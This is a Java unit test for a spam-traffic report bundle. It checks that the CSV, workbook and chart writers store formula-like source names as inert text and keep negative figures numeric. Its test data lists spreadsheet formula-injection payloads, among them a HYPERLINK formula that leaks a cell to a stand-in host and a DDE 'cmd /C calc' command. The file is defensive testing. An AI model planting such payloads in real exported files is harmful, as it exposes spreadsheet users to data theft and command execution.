package org.spamtraffic.report.table;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.spamtraffic.output.SpreadsheetText;
import org.spamtraffic.report.chart.CategoryChart;
import org.spamtraffic.report.chart.ChartData;
import org.spamtraffic.report.chart.ChartFrame;
import org.spamtraffic.report.chart.ValueFormat;
import org.spamtraffic.report.data.ReportTable;
import org.spamtraffic.report.document.Labels;
import org.spamtraffic.schema.TableContract;

/**
 * Hostile names (an operator's file may call a source network anything) through every writer of the
 * report bundle: the published CSV, {@code tables.xlsx} and a chart's CSV. Each comes out as text
 * no spreadsheet runs, read back exactly by {@link SpreadsheetText#original}; real negative numbers
 * stay numbers.
 */
class HostileTextWritersTest {
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"AS1\")",
          "=cmd|' /C calc'!A0",
          "@SUM(1)",
          "+1+1",
          "-2+3",
          "+869*",
          "'=1");

  /** published_sources with a hostile source in each row and negative figures. */
  private static ReportTable sources() {
    TableContract c = TableContract.load("published_sources");
    List<List<Object>> rows = new ArrayList<>();
    for (String name : HOSTILE) {
      List<Object> row = new ArrayList<>();
      for (TableContract.Column col : c.columns()) {
        row.add(
            switch (col.name()) {
              case "source" -> name;
              case "suppressed" -> false;
              case "share_of_area" -> -0.25;
              case "spam_detected" -> -3L;
              default ->
                  switch (col.type()) {
                    case STRING -> "x";
                    case INT -> -4;
                    case LONG -> -5L;
                    case DOUBLE -> -1.5e-7;
                    case BOOLEAN -> false;
                    default -> null;
                  };
            });
      }
      rows.add(row);
    }
    return ReportTable.of(c, rows);
  }

  @Test
  void thePublishedCsvHoldsHostileNamesAsTextAndNegativeNumbersAsNumbers() throws Exception {
    ReportTable table = sources();
    List<CsvRecord> records = read(CsvTables.bytes(table));
    int source = table.index("source");
    int share = table.index("share_of_area");
    int detected = table.index("spam_detected");
    List<String> names = new ArrayList<>();
    assertThat(records).hasSize(HOSTILE.size() + 1);
    for (CsvRecord r : records.subList(1, records.size())) {
      for (String field : r.getFields()) {
        assertThat(SpreadsheetText.isFormulaLike(field)).as(field).isFalse();
      }
      assertThat(r.getField(source)).startsWith("'");
      names.add(SpreadsheetText.original(r.getField(source)));
      assertThat(r.getField(share)).isEqualTo("-0.25");
      assertThat(r.getField(detected)).isEqualTo("-3");
      assertThat(r.getField(table.index("reporting_operators"))).isEqualTo("-4");
    }
    assertThat(names).containsExactlyInAnyOrderElementsOf(HOSTILE); // the table sorts its rows
  }

  @Test
  void theWorkbookHoldsHostileNamesAsTextAndNegativeNumbersAsNumberCells() throws Exception {
    ReportTable table = sources();
    byte[] xlsx = new WorkbookWriter(Labels.of("en")).write(List.of(table), "t", Instant.EPOCH);
    try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      Sheet sheet = wb.getSheet(WorkbookWriter.sheetName(table));
      List<String> names = new ArrayList<>();
      for (Row row : sheet) {
        for (Cell cell : row) {
          assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
          if (cell.getCellType() == CellType.STRING) {
            assertThat(SpreadsheetText.isFormulaLike(cell.getStringCellValue()))
                .as(cell.getStringCellValue())
                .isFalse();
          }
        }
        if (row.getRowNum() == 0) {
          continue;
        }
        String name = row.getCell(table.index("source")).getStringCellValue();
        names.add(SpreadsheetText.original(name));
        Cell share = row.getCell(table.index("share_of_area"));
        assertThat(share.getCellType()).isEqualTo(CellType.NUMERIC);
        assertThat(share.getNumericCellValue()).isEqualTo(-0.25);
        assertThat(row.getCell(table.index("spam_detected")).getNumericCellValue()).isEqualTo(-3);
      }
      assertThat(names).containsExactlyInAnyOrderElementsOf(HOSTILE);
    }
  }

  @Test
  void aChartsCsvHoldsHostileCategoriesAsText() throws Exception {
    List<Double> values = new ArrayList<>();
    for (int i = 0; i < HOSTILE.size(); i++) {
      values.add(-1.0 - i);
    }
    CategoryChart chart =
        new CategoryChart(
            ChartFrame.of("sources", "Sources", "Study", 9),
            CategoryChart.Kind.HORIZONTAL_BARS,
            "Source",
            "Spam",
            ValueFormat.DECIMAL,
            HOSTILE,
            List.of(new CategoryChart.Series("=1+1", values)),
            0);
    List<CsvRecord> records = read(ChartData.csvBytes(chart));
    assertThat(records).hasSize(HOSTILE.size() + 1);
    for (int i = 0; i < HOSTILE.size(); i++) {
      CsvRecord r = records.get(i + 1);
      assertThat(SpreadsheetText.original(r.getField(0))).isEqualTo(HOSTILE.get(i));
      assertThat(r.getField(1)).isEqualTo("'=1+1");
      assertThat(r.getField(2)).isEqualTo(ChartData.number(-1.0 - i));
      for (String field : r.getFields()) {
        assertThat(SpreadsheetText.isFormulaLike(field)).as(field).isFalse();
      }
    }
  }

  private static List<CsvRecord> read(byte[] csv) throws Exception {
    try (CsvReader<CsvRecord> reader =
        CsvReader.builder().ofCsvRecord(new String(csv, java.nio.charset.StandardCharsets.UTF_8))) {
      return reader.stream().toList();
    }
  }
}
